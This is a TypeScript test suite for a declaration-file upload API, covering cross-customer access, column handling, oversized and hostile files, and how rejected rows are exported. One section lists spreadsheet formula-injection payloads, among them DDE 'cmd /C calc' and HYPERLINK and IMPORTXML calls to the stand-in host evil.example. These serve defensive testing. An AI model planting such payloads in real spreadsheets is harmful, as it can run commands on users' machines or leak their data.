import { randomUUID } from 'node:crypto';
import { declarationLimits } from '@rohi/contract/imports/declaration-limits';
import { beforeAll, describe, expect, test } from 'vitest';
import { newTrackingCode } from '../../../../test/build.ts';
import { confirm, problemsIn, sendFile, upload, workbookOf } from '../../../../test/declarations.ts';
import { heavyWorkbook, hostileFiles } from '../../../../test/hostile-files.ts';
import { createOrderApp, newCustomer, orderOf } from '../../../../test/orders.ts';
import type { TestApp } from '../../../../test/test-app.ts';
import { parseTables } from '../tables/read-table.service.ts';
import { unpackZip } from '../../../platform/table-files/zip-archive.ts';

let service: TestApp;

beforeAll(async () => {
  ({ service } = await createOrderApp());
});

const customer = () => newCustomer(service);

async function rejectedOf({ token }: { token: string }, id: string, locale = 'en') {
  const answer = await service.app.inject({
    url: `/api/declaration-files/${id}/rejected`,
    headers: { token, 'x-local': locale },
  });
  return { status: answer.statusCode, headers: answer.headers, bytes: answer.rawPayload, answer };
}

describe("T05: somebody else's file of declarations", () => {
  test('answers for a foreign file as for a missing one, and its id means another file to another customer', async () => {
    const [farhod, madina] = [await customer(), await customer()];
    const theirs = await upload(service, madina, 'Goods,Pickup point\nforeign shoes,Kulob\n');
    const missing = randomUUID();
    for (const [method, end, body] of [
      ['GET', '', undefined],
      ['GET', '/rejected', undefined],
      ['POST', '/confirm', { submit: true }],
    ] as const) {
      const foreign = await farhod.ask(method, `/declaration-files/${theirs.id}${end}`, body);
      const absent = await farhod.ask(method, `/declaration-files/${missing}${end}`, body);
      expect({ status: foreign.status, error: foreign.json['error'] }).toEqual({
        status: 404,
        error: 'imports.fileNotFound',
      });
      expect({ ...foreign.json, requestId: '' }).toEqual({ ...absent.json, requestId: '' });
    }
    const own = await sendFile(service, farhod, 'Goods,Pickup point\nown coats,Kulob\n', { id: theirs.id });
    expect(own.file.rows.map(({ goods }) => goods)).toEqual(['own coats']);
    const { accepted } = await confirm(farhod, theirs.id);
    expect((await madina.ask('GET', `/orders/${accepted[0]?.id}`)).status).toBe(404);
    const untouched = (await madina.ask('GET', `/declaration-files/${theirs.id}`)).json['data'];
    expect(untouched).toEqual(theirs);
    expect((await confirm(madina, theirs.id)).accepted).toHaveLength(1);
    expect((await madina.ask('GET', '/orders')).json['data']).toMatchObject({ total: 1 });
  });

  test('a file does not give away the owner of a tracking code', async () => {
    const [farhod, madina] = [await customer(), await customer()];
    const code = newTrackingCode();
    const theirs = await upload(
      service,
      madina,
      `Tracking code,Goods,Pickup point,Recipient\n${code},shoes,Kulob,Sayora\n`,
    );
    const { accepted } = await confirm(madina, theirs.id);
    const file = await upload(service, farhod, `Tracking code,Goods,Pickup point\n${code},shoes,Kulob\n`);
    expect(problemsIn(file)).toEqual({});
    for (const secret of [accepted[0]?.id, madina.customerCode, madina.account.username, 'Sayora'])
      expect(JSON.stringify(file)).not.toContain(secret);
  });
});

describe('T12: a file of declarations', () => {
  test('sets nothing beside its columns, however they are headed', async () => {
    const [farhod, madina] = [await customer(), await customer()];
    const columns = await service.context.sql<{ name: string }[]>`
      select column_name as name from information_schema.columns
      where table_name in ('customer_order', 'parcel')
        and column_name not in ('goods', 'note', 'places', 'marketplace', 'pickup_point', 'tracking_code')`;
    const names = [...new Set(columns.map(({ name }) => name))].filter(
      (name) =>
        // Those are read: people head such columns so, too.
        !['order_code', 'value_currency', 'recipient_name', 'recipient_phone', 'weight_g'].includes(name),
    );
    expect(names.length).toBeGreaterThan(20);
    const file = await upload(
      service,
      farhod,
      await workbookOf([
        ['Goods', 'Pickup point', ...names],
        ['shoes', 'Kulob', ...names.map(() => madina.account.id)],
      ]),
    );
    expect(file.ignoredColumns).toEqual(names);
    const { accepted } = await confirm(farhod, file.id, false);
    const order = orderOf(await farhod.ask('GET', `/orders/${accepted[0]?.id}`));
    expect(order).toMatchObject({ status: 'NEW', version: 1, createdAt: '2026-11-20T09:00:00.000Z' });
    expect(JSON.stringify(order)).not.toContain(madina.account.id);
    expect((await madina.ask('GET', '/orders')).json['data']).toMatchObject({ total: 0 });
  });

  test('is confirmed with one word and nothing beside it', async () => {
    const farhod = await customer();
    const { id } = await upload(service, farhod, 'Goods,Pickup point\nshoes,Kulob\n');
    for (const body of [
      { submit: true, customerId: farhod.account.id },
      { submit: 'yes' },
      {},
      { submit: true, rows: [] },
    ])
      expect((await farhod.ask('POST', `/declaration-files/${id}/confirm`, body)).status).toBe(400);
    expect((await farhod.ask('GET', '/orders')).json['data']).toMatchObject({ total: 0 });
  });
});

describe('T13: the list of rows that were not taken', () => {
  const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', '"=', "'="];
  const bodies = [
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example","x")',
    'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    '1+1',
    'DDE("cmd";"/C calc";"x")',
  ];
  const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`));

  test('holds what looks like formulas as text, and comes back as it was', async () => {
    const farhod = await customer();
    expect(payloads.length).toBeGreaterThanOrEqual(60);
    // Without a pickup point no row is taken.
    const rows = payloads.map((payload) => [payload, payload, payload, payload, payload]);
    const file = await upload(
      service,
      farhod,
      await workbookOf([['Goods', 'Note', 'Recipient', '=1+1', 'Order'], ...rows]),
      { name: '=cmd.xlsx' },
    );
    expect(file.rejectedRows).toBe(payloads.length);
    const { status, headers, bytes } = await rejectedOf(farhod, file.id);
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'content-disposition': expect.stringMatching(/^attachment; filename="/) as string,
    });
    const sheets = [...(await unpackZip(bytes, (name) => name.startsWith('xl/worksheets/'))).values()];
    expect(sheets.length).toBeGreaterThan(0);
    for (const sheet of sheets) expect(sheet.toString()).not.toMatch(/<(?:\w+:)?f[\s>]/);
    const [table] = await parseTables(bytes);
    const normalized = (text: string) => text.replaceAll(/\r\n?/g, '\n');
    expect(table?.rows.slice(1).map((row) => normalized(String(row[0])))).toEqual(payloads.map(normalized));
    expect(table?.rows[0]?.slice(-2)).toEqual(['Row in the file', 'Why it was not loaded']);
    for (const row of table?.rows.slice(1) ?? [])
      expect(String(row.at(-1))).toMatch(/^Pickup point: not chosen|row \d+ of (?:this|the same) order/);
  });

  test('is mended and sent again: the two columns beside it are passed over', async () => {
    const farhod = await customer();
    const codes = [newTrackingCode(), newTrackingCode()];
    const first = await upload(
      service,
      farhod,
      `Трек-номер;Товар;Вес;ПВЗ;Мой столбец\n${codes[0]};обувь;1,5;Kulob;а\n${codes[1]};обувь;много;Kulob;б\n`,
      { locale: 'ru' },
    );
    await confirm(farhod, first.id);
    const { bytes } = await rejectedOf(farhod, first.id, 'ru');
    const [table] = await parseTables(bytes);
    expect(table?.rows).toEqual([
      ['Трек-номер', 'Товар', 'Вес', 'ПВЗ', 'Мой столбец', 'Строка в файле', 'Почему не загружено'],
      [codes[1], 'обувь', 'много', 'Kulob', 'б', '3', 'Вес, кг: это не число'],
    ]);
    const mended = (table?.rows ?? []).map((row) =>
      row.map((cell) => (cell === 'много' ? '1,5' : String(cell))),
    );
    const second = await upload(service, farhod, await workbookOf(mended));
    expect(second).toMatchObject({ ignoredColumns: ['Мой столбец'], orders: 1, rejectedRows: 0 });
    const { accepted } = await confirm(farhod, second.id);
    expect(accepted.map(({ key }) => key)).toEqual([codes[1]]);
  });

  test('bears characters that no workbook can hold', async () => {
    const farhod = await customer();
    const file = await upload(service, farhod, 'Goods,Note\nshoes\u0001\u001f,\u0007a\n');
    expect(problemsIn(file)).toEqual({
      2: ['goods badCharacters', 'note badCharacters', 'pickupPoint pickupPointNeeded'],
    });
    const [table] = await parseTables((await rejectedOf(farhod, file.id)).bytes);
    expect(table?.rows[1]?.slice(0, 2)).toEqual(['shoes', 'a']);
    expect((await confirm(farhod, file.id)).rejected).toHaveLength(1);
  });
});

describe('T14: a file that means harm', () => {
  let attacker: ReturnType<typeof customer>;
  beforeAll(() => {
    attacker = customer();
  });
  test.each<[string, Buffer | string]>([
    ...hostileFiles,
    ['nothing but a header', 'Goods\n'],
    ['a quote that never ends', 'Goods\n"shoes\n'],
    ['more rows than may be', `Goods\n${'shoes\n'.repeat(declarationLimits.maxRows + 1)}`],
    ['a million line ends', `Goods\n${'\n'.repeat(1_000_000)}`],
    ['a row of a thousand columns', `Goods${',x'.repeat(1_000)}\nshoes\n`],
  ])('%s: is refused with a reason, and others are served meanwhile', async (_name, bytes) => {
    const farhod = await attacker;
    const [refused, meanwhile] = await Promise.all([
      sendFile(service, farhod, bytes),
      farhod.ask('GET', '/orders'),
    ]);
    expect(refused.json).toMatchObject({ code: 422, error: 'imports.fileRefused' });
    expect(refused.json.msg).toMatch(/^The file was not accepted\. .{10,}\.$/);
    expect(meanwhile.status).toBe(200);
    expect((await farhod.ask('GET', `/declaration-files/${refused.id}`)).status).toBe(404);
  });

  test('is no more than so many bytes, and a file and nothing else', async () => {
    const farhod = await customer();
    const tooLarge = await sendFile(service, farhod, Buffer.alloc(declarationLimits.maxBytes + 1, 'a'));
    expect({ status: tooLarge.status, error: tooLarge.json.error }).toEqual({
      status: 413,
      error: 'request.tooLarge',
    });
    for (const type of ['application/json', 'text/plain', 'multipart/form-data; boundary=x', 'text/html'])
      expect((await sendFile(service, farhod, '{"a":1}', { type })).status).toBe(415);
    const [stored] = await service.context.sql<{ files: string }[]>`
      select count(*) as files from sent_file where owner_id = ${farhod.account.id}`;
    expect(stored?.files).toBe('0');
  });

  test('is refused to visitors before a byte of it is read', async () => {
    const answer = await service.app.inject({
      method: 'PUT',
      url: `/api/declaration-files/${randomUUID()}`,
      headers: { 'content-type': 'application/octet-stream' },
      payload: Buffer.alloc(declarationLimits.maxBytes + 1),
    });
    expect(answer.statusCode).toBe(401);
  });

  test('of six customers at once leaves none without an answer', async () => {
    const people = await Promise.all(Array.from({ length: 6 }, customer));
    const answers = await Promise.all(people.map((caller) => sendFile(service, caller, heavyWorkbook)));
    expect(answers.map(({ status }) => status)).toEqual(people.map(() => 422));
  });
});
